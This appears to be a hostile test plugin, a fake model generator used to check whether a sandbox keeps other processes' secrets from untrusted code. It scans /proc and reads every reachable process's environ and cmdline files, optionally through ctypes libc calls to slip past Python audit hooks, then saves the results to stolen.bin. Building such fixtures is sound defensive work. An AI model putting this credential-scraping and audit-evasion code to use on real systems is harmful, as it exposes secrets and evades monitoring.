"""A generator after the worker's secrets: it reads the environment of every other process it can
find under /proc, from Python or from C (ctypes, which the audit hook cannot see), and keeps what
it got in its scratch folder (`stolen.bin`) with its own environment and process id."""

import contextlib
import ctypes
import os

from ._common import Model, tones


def load_model(path):
    return Model()


def _python_read(path):
    with open(path, "rb") as handle:
        return handle.read()


def _c_read(path):
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.open(path.encode(), os.O_RDONLY)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "open refused", path)
    buffer = ctypes.create_string_buffer(1 << 16)
    try:
        count = libc.read(fd, buffer, len(buffer))
    finally:
        libc.close(fd)
    if count < 0:
        raise OSError(ctypes.get_errno(), "read refused", path)
    return buffer.raw[:count]


def generate(model, category, n, seed):
    how, _, worker = category.partition(":")  # "python:<worker pid>" or "c:<worker pid>"
    read = _c_read if how == "c" else _python_read
    pids = {os.getppid(), int(worker or 0), 1}
    with contextlib.suppress(OSError):  # refused when /proc itself is not readable
        pids.update(int(entry) for entry in os.listdir("/proc") if entry.isdigit())
    pids -= {0, os.getpid()}
    found = [f"pid {os.getpid()}".encode(), read("/proc/self/environ")]
    for pid in sorted(pids):
        for name in ("environ", "cmdline"):
            try:
                found.append(read(f"/proc/{pid}/{name}"))
            except OSError:
                continue
    with open("stolen.bin", "wb") as handle:
        handle.write(b"\n".join(found))
    return tones(model, category, n, seed)
